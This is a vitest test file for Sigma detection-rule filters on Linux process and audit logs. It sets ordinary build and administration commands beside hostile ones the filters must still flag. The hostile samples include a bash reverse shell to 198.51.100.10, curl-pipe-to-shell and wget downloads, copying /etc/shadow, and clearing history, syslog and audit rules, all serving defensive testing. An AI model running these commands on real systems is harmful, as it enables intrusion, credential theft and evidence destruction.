import { createReadStream, existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { createGunzip } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createReader } from '../../events/read.ts';
import { createSigmaEngine } from './compile/create-sigma-engine.ts';
import { readRules } from './parse/read-rules.ts';
import { assembleRules } from './parse/rule-set.ts';
import { loadRules } from './rule-archive.ts';
import { findRuleFiles } from './rule-folder.ts';
import { sigmaEventFromRecord, toSigmaEvent } from './taxonomy/to-sigma-event.ts';

const root = join(import.meta.dirname, '../../..');
const filters = join(root, 'rules/filters');
const data = join(root, '../shared/data/detection');
const isThere = existsSync(data);
if (!isThere) process.stderr.write('starter-filters.test.ts skips: ../shared/data/detection is not there\n');

interface Started {
  readonly CommandLine: string;
  readonly Image?: string;
  readonly User?: string;
  readonly ParentImage?: string;
  readonly ParentCommandLine?: string;
}

/** Ordinary work that a public rule is too loud for, and beside it what that rule is for. */
const cases: readonly {
  readonly filter: string;
  readonly ordinary: readonly Started[];
  readonly hostile: readonly Started[];
}[] = [
  {
    filter: 'linux-build-in-temporary-folder',
    ordinary: [
      { ParentImage: '/tmp/src/app-1.2/configure', CommandLine: '/bin/bash ./config.status' },
      { ParentImage: '/tmp/src/app-1.2/configure', CommandLine: '/bin/sh /tmp/src/app-1.2/config.guess' },
      { ParentImage: '/tmp/pip-build/venv/bin/python3', CommandLine: 'sh -c uname -p 2>/dev/null' },
      { ParentImage: '/tmp/app/node_modules/.bin/esbuild', CommandLine: 'sh -c node build.js' },
    ],
    hostile: [
      { ParentImage: '/tmp/kworker', CommandLine: 'sh -c uname -a' },
      {
        ParentImage: '/tmp/src/configure',
        CommandLine: 'bash -c bash -i >& /dev/tcp/198.51.100.10/4444 0>&1',
      },
      { ParentImage: '/tmp/src/configure', CommandLine: 'sh -c curl http://198.51.100.10/a | sh' },
    ],
  },
  {
    filter: 'linux-env-with-shell-of-build',
    ordinary: [
      { CommandLine: 'env SHELL=/bin/sh make -j4' },
      { CommandLine: '/usr/bin/env CFLAGS=-O2 /bin/sh ./configure --prefix=/usr' },
      { ParentImage: '/usr/bin/make', CommandLine: 'env LC_ALL=C /bin/sh -c ls' },
    ],
    hostile: [
      { ParentImage: '/usr/bin/sudo', CommandLine: 'env A=1 /bin/sh -c ls' },
      { CommandLine: 'env /bin/sh' },
      { CommandLine: 'env /bin/bash -p' },
    ],
  },
  {
    filter: 'linux-downloader-only-named-in-path',
    ordinary: [{ CommandLine: 'sh -c cd /tmp/build/curl-8.5.0 && make' }],
    hostile: [
      { CommandLine: 'sh -c /usr/bin/curl -o /tmp/a 198.51.100.10/a; chmod 755 /tmp/a' },
      { CommandLine: 'sh -c /tmp/x http://198.51.100.10/curl' },
    ],
  },
  {
    filter: 'linux-set-uid-audit',
    ordinary: [
      { ParentCommandLine: '/bin/sh /etc/cron.daily/checksecurity', CommandLine: 'find / -perm -4000 -ls' },
    ],
    hostile: [{ User: 'www-data', ParentCommandLine: '-bash', CommandLine: 'find / -perm -4000 -type f' }],
  },
  {
    filter: 'linux-history-of-other-programs',
    ordinary: [{ CommandLine: 'rm -f /root/.python_history' }, { CommandLine: 'rm -f docs/change_history' }],
    hostile: [{ CommandLine: 'rm -f /root/.bash_history' }, { CommandLine: 'rm /home/ana/.zsh_history' }],
  },
  {
    filter: 'linux-python-decodes-text',
    ordinary: [
      { CommandLine: 'python3 -c import base64,sys;print(base64.b64decode(sys.stdin.read()).decode())' },
      { CommandLine: "python3 -c import base64; print(base64.b64decode('aGVsbG8=').decode())" },
    ],
    hostile: [
      { CommandLine: "python3 -c import base64;exec(base64.b64decode('aW1wb3J0IG9z'))" },
      {
        CommandLine: "python3 -c import base64,os;print(os.popen(base64.b64decode('aWQ=').decode()).read())",
      },
    ],
  },
  {
    filter: 'linux-nohup-of-maintenance',
    ordinary: [
      { CommandLine: 'nohup rsync -a /srv/ /tmp/copy/' },
      { CommandLine: 'nohup make -C /tmp/src all' },
    ],
    hostile: [{ CommandLine: 'nohup /tmp/x' }, { CommandLine: 'nohup sh /tmp/a.sh' }],
  },
  {
    filter: 'linux-copy-of-account-list',
    ordinary: [
      { CommandLine: 'cp /etc/passwd /tmp/work/' },
      { CommandLine: 'cp src/passwd.c /tmp/build/passwd.c' },
    ],
    hostile: [
      { CommandLine: 'cp /tmp/passwd /etc/passwd' },
      { CommandLine: 'cp /etc/shadow /tmp/s' },
      { CommandLine: 'cp /tmp/mypasswd.bak /etc/passwd' },
    ],
  },
  {
    filter: 'linux-java-build',
    ordinary: [
      {
        ParentImage: '/usr/bin/java',
        ParentCommandLine: 'java -cp gradle-wrapper.jar org.gradle.wrapper.GradleWrapperMain build',
        CommandLine: 'bash scripts/version.sh',
      },
    ],
    hostile: [
      {
        ParentImage: '/usr/bin/java',
        ParentCommandLine: 'java -Dcatalina.home=/opt/tomcat org.apache.catalina.startup.Bootstrap',
        CommandLine: 'bash -c id',
      },
    ],
  },
  {
    filter: 'linux-remote-command-of-administration',
    ordinary: [
      {
        ParentImage: '/usr/sbin/sshd',
        CommandLine: 'bash -c rsync --server -vlogDtpre.iLsfxCIvu . /srv/backup',
      },
      { ParentImage: '/usr/sbin/sshd', CommandLine: 'bash -c /usr/lib/openssh/sftp-server' },
      {
        ParentImage: '/usr/sbin/sshd',
        CommandLine:
          "sh -c /bin/sh -c '/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1714.5-12-34/AnsiballZ_apt.py && sleep 0'",
      },
    ],
    hostile: [
      { ParentImage: '/usr/sbin/sshd', CommandLine: 'sh -c id' },
      { ParentImage: '/usr/sbin/sshd', CommandLine: 'bash -c rsync --server -vl . /srv; id' },
    ],
  },
  {
    filter: 'linux-openssl-to-own-machine',
    ordinary: [{ CommandLine: 'openssl s_client -quiet -connect 127.0.0.1:4433' }],
    hostile: [{ CommandLine: 'openssl s_client -quiet -connect 198.51.100.10:443' }],
  },
  {
    filter: 'linux-syslog-rotated',
    ordinary: [{ CommandLine: 'rm -f /var/log/syslog.7.gz' }],
    hostile: [
      { CommandLine: 'rm -f /var/log/syslog' },
      { CommandLine: 'rm -f /var/log/syslog /var/log/syslog.1' },
    ],
  },
  {
    filter: 'linux-words-in-command-lines',
    ordinary: [
      { Image: '/usr/bin/python3', CommandLine: 'python3 -m http.server 8000' },
      { Image: '/usr/bin/bash', CommandLine: 'bash /opt/shims/python3 -m http.server 8000' },
      { Image: '/usr/bin/mkdir', CommandLine: 'mkdir -p /tmp/x /tmp/y' },
      { Image: '/usr/bin/dash', CommandLine: 'sh -c kubectl get secret db | base64 -d | jq .' },
    ],
    hostile: [
      { Image: '/usr/bin/dash', CommandLine: 'sh -c echo aWQ= | base64 -d | sh' },
      { Image: '/usr/bin/dash', CommandLine: 'sh -c wget -q http://198.51.100.10/a; chmod +x a' },
    ],
  },
  {
    filter: 'linux-preload-file-only-read',
    ordinary: [{ Image: '/usr/bin/cat', CommandLine: 'cat /etc/ld.so.preload' }],
    hostile: [{ Image: '/usr/bin/bash', CommandLine: 'bash -c echo /tmp/x.so > /etc/ld.so.preload' }],
  },
  {
    filter: 'linux-history-word-in-other-commands',
    ordinary: [{ Image: '/usr/bin/git', CommandLine: 'git log --grep history -c' }],
    hostile: [{ Image: '/usr/bin/bash', CommandLine: 'bash -c history -c' }],
  },
  {
    filter: 'linux-package-manager-of-node',
    ordinary: [
      {
        ParentImage: '/usr/bin/node',
        ParentCommandLine: 'node /usr/bin/npm install',
        CommandLine: 'uname -m',
      },
    ],
    hostile: [
      { ParentImage: '/usr/bin/node', ParentCommandLine: 'node server.js', CommandLine: 'uname -a' },
      { ParentImage: '/usr/bin/node', ParentCommandLine: 'node /usr/bin/npm start', CommandLine: 'whoami' },
    ],
  },
  {
    filter: 'linux-tools-of-node-project',
    ordinary: [
      {
        ParentCommandLine: 'node /srv/app/node_modules/.bin/eslint .',
        CommandLine: 'sh -c git rev-parse HEAD',
      },
    ],
    hostile: [
      { ParentCommandLine: 'node /srv/app/node_modules/.bin/next start', CommandLine: 'sh -c git status' },
      { ParentCommandLine: 'node /srv/app/node_modules/.bin/eslint .', CommandLine: 'sh -c cat /etc/passwd' },
    ],
  },
  {
    filter: 'linux-find-with-script',
    ordinary: [
      { ParentImage: '/usr/bin/make', CommandLine: 'find . -name *.c -exec /bin/sh -c wc -l "$1" _ {} ;' },
    ],
    hostile: [{ ParentImage: '/usr/bin/bash', CommandLine: 'find . -exec /bin/sh ; -quit' }],
  },
  {
    filter: 'linux-audit-rules-reloaded',
    ordinary: [{ ParentCommandLine: '/bin/bash /sbin/augenrules --load', CommandLine: 'auditctl -D' }],
    hostile: [{ ParentCommandLine: '-bash', CommandLine: 'auditctl -D' }],
  },
  {
    filter: 'linux-sleep-masked-by-provisioning',
    ordinary: [
      {
        ParentCommandLine: '/usr/bin/python3 /root/.ansible/tmp/x/AnsiballZ_systemd.py',
        CommandLine: 'systemctl mask sleep.target suspend.target',
      },
    ],
    hostile: [
      { ParentCommandLine: 'bash /tmp/m.sh', CommandLine: 'systemctl mask sleep.target suspend.target' },
    ],
  },
];

/** The filter beside rules that match everything in its place and have the ids it names. */
async function filteredEngine(name: string) {
  const path = join(filters, `${name}.yml`);
  const text = await readFile(path, 'utf8');
  const ids = text.match(/^ {2}- ([0-9a-f-]{36})$/gm) ?? [];
  const [, source = ''] = /^logsource:\n((?: {2}.*\n)+)/m.exec(text) ?? [];
  const standIns = ids
    .map((line) => {
      const id = line.trim().slice(2);
      return `title: stand-in\nid: ${id}\nlogsource:\n${source}detection:\n  selection:\n    CommandLine: '*'\n  condition: selection\n`;
    })
    .join('---\n');
  const loaded = assembleRules([readRules(standIns, 'stand-in.yml'), readRules(text, path)]);
  expect(loaded.problems).toEqual([]);
  expect(loaded.detections.length).toBe(ids.length);
  return createSigmaEngine(loaded.detections);
}

function seen(started: Started) {
  const record = { EventID: 1, Channel: 'Linux-Sysmon/Operational', Computer: 'web1', ...started };
  return sigmaEventFromRecord('windows', record, {
    product: 'linux',
    category: ['process_creation'],
    service: ['sysmon'],
  });
}

describe.each(cases)('the filter $filter', ({ filter, ordinary, hostile }) => {
  it.each(ordinary)('leaves out $CommandLine', async (started) => {
    expect((await filteredEngine(filter)).match(seen(started))).toEqual([]);
  });

  it.each(hostile)('keeps $CommandLine', async (started) => {
    expect((await filteredEngine(filter)).match(seen(started)).length).toBeGreaterThan(0);
  });
});

describe('filters on the audit log', () => {
  const head = 'msg=audit(1777888800.123:901):';
  function audited(syscall: string, flags: string, exe: string): string {
    return [
      `type=SYSCALL ${head} arch=c000003e syscall=${syscall} success=yes exit=3 a0=ffffff9c a1=7ffd a2=${flags} a3=0 items=1 ppid=1 pid=2 uid=33 euid=33 comm="x" exe="${exe}"`,
      `type=PATH ${head} item=0 name="/etc/ld.so.preload" nametype=NORMAL`,
      `type=PROCTITLE ${head} proctitle="x"`,
    ].join('\n');
  }
  const read = createReader({ maxRecordBytes: 100_000 });
  async function hits(filter: string, text: string): Promise<number> {
    const [result] = read(Buffer.from(text), { position: 'test', receivedAtMs: 0 });
    if (result?.kind !== 'event') throw new Error('expected an event');
    return (await filteredEngine(filter)).match(toSigmaEvent(result.event)).length;
  }

  it('leave out what only reads a watched file, and keep what writes it', async () => {
    expect(await hits('linux-audit-files-only-read', audited('257', '80000', '/usr/bin/ls'))).toBe(0);
    expect(await hits('linux-audit-files-only-read', audited('21', '4', '/usr/bin/ls'))).toBe(0);
    expect(await hits('linux-audit-files-only-read', audited('257', '241', '/usr/bin/dpkg'))).toBe(0);
    expect(await hits('linux-audit-files-only-read', audited('257', '241', '/usr/bin/bash'))).toBe(4);
  });

  it('leave out helpers of web applications, and keep shells', async () => {
    expect(await hits('linux-helpers-of-web-applications', audited('59', '0', '/usr/bin/convert'))).toBe(0);
    expect(await hits('linux-helpers-of-web-applications', audited('59', '0', '/usr/bin/dash'))).toBe(1);
  });
});

describe.runIf(isThere)('all filters beside the public rules', () => {
  it('find every rule they name, and say nothing loud of ordinary logs', async () => {
    const set = await loadRules([join(data, 'sigma-rules-pack.tar.gz'), join(root, 'rules')]);
    const own = (await findRuleFiles([join(root, 'rules')])).map(({ path }) => path);
    expect(set.problems.filter(({ file }) => own.includes(file))).toEqual([]);
    const engine = createSigmaEngine(set.detections);
    const read = createReader({ maxRecordBytes: 1_048_576 });
    const loud: string[] = [];
    for (const name of ['benign-linux-process', 'benign-windows-system']) {
      const lines = createInterface({
        input: createReadStream(join(data, `${name}.jsonl.gz`)).pipe(createGunzip()),
      });
      for await (const line of lines) {
        const { id, event }: { id: string; event: unknown } = JSON.parse(line);
        const [result] = read(Buffer.from(JSON.stringify(event)), { position: id, receivedAtMs: 0 });
        if (result?.kind !== 'event') throw new Error(`expected an event at ${id}`);
        for (const rule of engine.match(toSigmaEvent(result.event))) {
          if (rule.level === 'high' || rule.level === 'critical') loud.push(`${id}: ${rule.title}`);
        }
      }
    }
    expect(loud).toEqual([]);
  }, 120_000);
});
